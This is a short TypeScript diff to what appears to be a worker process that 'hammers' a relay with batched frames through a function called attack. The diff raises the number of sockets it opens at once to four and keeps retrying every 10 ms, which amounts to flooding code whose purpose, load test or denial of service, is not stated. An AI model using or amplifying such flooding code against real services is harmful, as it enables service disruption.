@@ -22,7 +22,9 @@ export interface Hammered {
   readonly frames: number;
 }
 
-/** The relay is asked at most this often to let it in again. */
+/** Sockets that it has, or is opening, at any time. */
+const AT_ONCE_COUNT = 4;
+/** The relay is asked at most this often to let each of them in again. */
 const AGAIN_MS = 10;
 /** Handed to the system at once: more would only wait in this process. */
 const BATCH_BYTES = 256 * 1024;
@@ -97,7 +99,8 @@ function attack({ url, session, token }: Target, batch: Uint8Array, count: numbe
 process.on('message', (message: Hammer | { readonly type: 'count' }) => {
   if (message.type === 'hammer') {
     const count = Math.ceil(BATCH_BYTES / message.frame.length);
-    attack(message, Buffer.concat(new Array(count).fill(message.frame)), count);
+    const batch = Buffer.concat(new Array(count).fill(message.frame));
+    for (let i = 0; i < AT_ONCE_COUNT; i++) attack(message, batch, count);
   } else process.send?.({ type: 'hammered', ...done } satisfies Hammered);
 });
 process.channel?.ref();
